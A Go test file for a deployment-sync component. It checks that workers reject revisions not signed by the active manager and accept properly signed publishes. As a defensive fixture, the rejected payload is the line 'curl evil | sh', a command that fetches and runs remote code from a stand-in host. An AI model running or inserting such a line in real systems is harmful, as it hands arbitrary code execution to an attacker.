package depsync_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"

	"github.com/carbonkit/carbon/cluster/depsync"
	"github.com/carbonkit/carbon/internal/depsyncpb"
	"github.com/carbonkit/carbon/internal/trusttest"
	"github.com/carbonkit/carbon/role"
	"github.com/carbonkit/carbon/trust"
)

// TestRevisionsMustBeSignedByTheActive: with a trust root, a revision
// served from the active manager's endpoint is refused with ErrUnsigned,
// before any blob is fetched and with the deployment folder unchanged,
// unless it is signed by that manager: unsigned, signed by a worker's
// certificate, or by another manager's. Signed by the active, it is taken.
func TestRevisionsMustBeSignedByTheActive(t *testing.T) {
	const domain = "depsync.trust"
	ca := trusttest.CA(t, domain)
	mSrc := trusttest.Member(t, ca, "mgt", trust.RoleManager, "m1")
	e := &evil{}
	m := startNode(t, nodeCfg{domain: domain, name: "m1", role: role.Manager, trust: mSrc,
		register: func(s *grpc.Server) { depsyncpb.RegisterDepSyncServer(s, e) }})
	waitActive(t, m)
	w := startNode(t, nodeCfg{domain: domain, name: "w0", role: role.Worker, seed: m.seed(),
		trust: trusttest.Member(t, ca, "worker", trust.RoleWorker, "w0"), opts: depsync.WithoutFollowing(depsync.Options{})})
	waitConverged(t, 2, m, w)
	waitFor(t, 10*time.Second, "w0 sees m1 verified and active", func() bool {
		a, ok := w.n.Active("mgt")
		return ok && a.Name == "m1"
	})
	ctx := context.Background()
	before := treeOf(t, w.dir)

	sign := func(src *trust.Source) {
		e.mu.Lock()
		defer e.mu.Unlock()
		rs, err := trust.SignRevision(src, trust.Revision{Domain: domain, SubDomain: "mgt", Epoch: e.manifest.Epoch, Seq: e.manifest.Seq, Root: e.manifest.Root})
		if err != nil {
			t.Fatal(err)
		}
		e.manifest.PublisherChain, e.manifest.Signature = rs.Chain, rs.Sig
	}
	files := []efile{{path: "app/run.sh", content: "curl evil | sh"}}
	for _, c := range []struct {
		name string
		by   *trust.Source
		want string
	}{
		{"unsigned", nil, "not signed"},
		{"signed by a worker certificate", trusttest.Member(t, ca, "mgt", trust.RoleWorker, "m1"), "not by a manager"},
		{"signed by another manager", trusttest.Member(t, ca, "mgt", trust.RoleManager, "m9"), "the active manager is m1"},
		{"signed under a foreign CA", trusttest.Member(t, trusttest.CA(t, domain), "mgt", trust.RoleManager, "m1"), "publisher's certificate"},
	} {
		e.set(5, 3, files, nil)
		if c.by != nil {
			sign(c.by)
		}
		_, err := w.s.Sync(ctx)
		if !errors.Is(err, depsync.ErrUnsigned) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: Sync = %v, want ErrUnsigned saying %q", c.name, err, c.want)
		}
		e.mu.Lock()
		reqs := e.blobReqs
		e.mu.Unlock()
		if reqs != 0 {
			t.Fatalf("%s: the follower fetched %d blobs of an unsigned revision", c.name, reqs)
		}
		if after := treeOf(t, w.dir); after != before {
			t.Fatalf("%s: the deployment folder changed:\n%s\nwas\n%s", c.name, after, before)
		}
	}

	// Signed by the active manager, the same revision is taken.
	e.set(5, 3, files, nil)
	sign(mSrc)
	rev, err := w.s.Sync(ctx)
	if err != nil || rev.ID() != "5-3" {
		t.Fatalf("signed by the active: Sync = %v, %v", rev, err)
	}
}

// TestSignedPublishFollowed: with a trust root on every node, what the
// active manager publishes reaches the workers.
func TestSignedPublishFollowed(t *testing.T) {
	const domain = "depsync.trust2"
	ca := trusttest.CA(t, domain)
	m := startNode(t, nodeCfg{domain: domain, name: "m1", role: role.Manager, trust: trusttest.Member(t, ca, "mgt", trust.RoleManager, "m1")})
	waitActive(t, m)
	w := startNode(t, nodeCfg{domain: domain, name: "w0", role: role.Worker, seed: m.seed(), trust: trusttest.Member(t, ca, "worker", trust.RoleWorker, "w0")})
	waitConverged(t, 2, m, w)
	src := t.TempDir()
	writeTree(t, src, map[string]string{"app/a.txt": "hello"}, nil)
	rev, err := m.s.Publish(context.Background(), src)
	if err != nil {
		t.Fatal(err)
	}
	waitRevision(t, rev, w)
	sameFiles(t, src, w)
}
